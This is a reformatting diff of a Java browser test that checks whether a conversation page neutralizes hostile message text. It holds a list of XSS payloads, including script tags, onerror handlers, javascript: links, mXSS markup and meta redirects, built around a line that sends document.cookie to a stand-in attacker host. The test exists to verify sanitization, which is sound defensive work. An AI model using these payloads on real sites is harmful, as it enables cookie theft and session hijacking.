@@ -14,7 +14,8 @@ import org.junit.jupiter.api.io.TempDir;
 /** Shows what would attack whoever reads it. */
 @Timeout(120)
 class HostileTextPageTest {
-  private static final String ATTACK = "window.attacked=1;fetch('https://evil.example/'+document.cookie)";
+  private static final String ATTACK =
+      "window.attacked=1;fetch('https://evil.example/'+document.cookie)";
   private static final List<String> TEXTS =
       List.of(
           "<script>" + ATTACK + "</script>",
@@ -26,9 +27,17 @@ class HostileTextPageTest {
           "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
           "![pixel](https://evil.example/pixel.png) and ![two](//evil.example/two.png \"title\")",
           "[![nested](https://evil.example/nested.png)](https://evil.example/link)",
-          "[click](javascript:" + ATTACK + ") [data](data:text/html,<script>" + ATTACK + "</script>)",
+          "[click](javascript:"
+              + ATTACK
+              + ") [data](data:text/html,<script>"
+              + ATTACK
+              + "</script>)",
           "[a](JaVaScRiPt:alert(1)) [b](&#106;avascript:alert(1)) <javascript:alert(1)> [c](vbscript:x)",
-          "```\"><img src=x onerror=" + ATTACK + ">\n</code></pre><script>" + ATTACK + "</script>\n```",
+          "```\"><img src=x onerror="
+              + ATTACK
+              + ">\n</code></pre><script>"
+              + ATTACK
+              + "</script>\n```",
           "``` js onload=x class=\"evil\n" + ATTACK + "\n```",
           "[ref]: javascript:alert(1)\n\n[ref] and <a href=\"javascript:x\" style=\"position:fixed\">x</a>",
           "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
@@ -53,14 +62,16 @@ class HostileTextPageTest {
   @Test
   void nothingRunsAndNoRequestLeavesTheMachine() {
     Conversation hostile =
-        served.conversation(
-            "<img src=x onerror=" + ATTACK + ">", TEXTS.toArray(String[]::new));
+        served.conversation("<img src=x onerror=" + ATTACK + ">", TEXTS.toArray(String[]::new));
     PageBrowser page = served.open(profile, "#/" + hostile.id());
     page.await(
-        () -> page.run("return document.querySelectorAll('.message').length").equals((long) TEXTS.size()),
+        () ->
+            page.run("return document.querySelectorAll('.message').length")
+                .equals((long) TEXTS.size()),
         "all messages");
     assertThat(page.text("#name")).startsWith("<img src=x");
-    for (String shown : List.of("<script>" + ATTACK, "Image: pixel", "<svg onload=", "<form action")) {
+    for (String shown :
+        List.of("<script>" + ATTACK, "Image: pixel", "<svg onload=", "<form action")) {
       assertThat(
               (Boolean)
                   page.run(
@@ -72,21 +83,35 @@ class HostileTextPageTest {
     page.search("onerror");
     page.awaitText("#list mark", "onerror");
     assertThat((Boolean) page.run("return window.attacked === undefined")).isTrue();
-    assertThat((Long) page.run("return document.querySelectorAll('#messages :is(script, style, iframe, form,"
-            + " svg, math, base, meta, link, img, object, embed, input)').length"))
+    assertThat(
+            (Long)
+                page.run(
+                    "return document.querySelectorAll('#messages :is(script, style, iframe, form,"
+                        + " svg, math, base, meta, link, img, object, embed, input)').length"))
         .isZero();
-    assertThat(page.run("return [...document.querySelectorAll('*')].flatMap((it) => it.getAttributeNames())"
-            + ".filter((it) => it.startsWith('on') || it === 'srcdoc').join()"))
+    assertThat(
+            page.run(
+                "return [...document.querySelectorAll('*')].flatMap((it) => it.getAttributeNames())"
+                    + ".filter((it) => it.startsWith('on') || it === 'srcdoc').join()"))
         .isEqualTo("");
-    assertThat((String) page.run("return [...document.querySelectorAll('#messages a')].map((it) => it.protocol)"
-            + ".filter((it) => !['http:', 'https:', 'mailto:'].includes(it)).join()"))
+    assertThat(
+            (String)
+                page.run(
+                    "return [...document.querySelectorAll('#messages a')].map((it) => it.protocol)"
+                        + ".filter((it) => !['http:', 'https:', 'mailto:'].includes(it)).join()"))
         .isEmpty();
-    assertThat((Boolean) page.run("return [...document.querySelectorAll('#messages a')].every((it) =>"
-            + " it.rel === 'noopener noreferrer' && it.target === '_blank')"))
+    assertThat(
+            (Boolean)
+                page.run(
+                    "return [...document.querySelectorAll('#messages a')].every((it) =>"
+                        + " it.rel === 'noopener noreferrer' && it.target === '_blank')"))
         .isTrue();
     assertThat(page.requests())
         .isNotEmpty()
-        .allMatch(it -> it.startsWith(served.url() + "/") || it.startsWith("ws://127.0.0.1:" + served.url().getPort() + "/"));
+        .allMatch(
+            it ->
+                it.startsWith(served.url() + "/")
+                    || it.startsWith("ws://127.0.0.1:" + served.url().getPort() + "/"));
     assertThat(page.errors()).isEmpty();
   }
 
@@ -98,7 +123,9 @@ class HostileTextPageTest {
         served.conversation("Drawn", "![a pixel](data:image/png;base64," + pixel + ")");
     PageBrowser page = served.open(profile, "#/" + drawn.id());
     page.await(
-        () -> Boolean.TRUE.equals(page.run("return document.querySelector('.text img')?.naturalWidth === 1")),
+        () ->
+            Boolean.TRUE.equals(
+                page.run("return document.querySelector('.text img')?.naturalWidth === 1")),
         "the picture");
     assertThat(page.errors()).isEmpty();
   }
@@ -121,7 +148,9 @@ class HostileTextPageTest {
             """);
     assertThat(refused).isEqualTo("html,script");
     page.await(
-        () -> page.errors().stream().anyMatch(it -> it.contains("img-src") || it.contains("Content Security Policy")),
+        () ->
+            page.errors().stream()
+                .anyMatch(it -> it.contains("img-src") || it.contains("Content Security Policy")),
         "a refused picture");
   }
 }
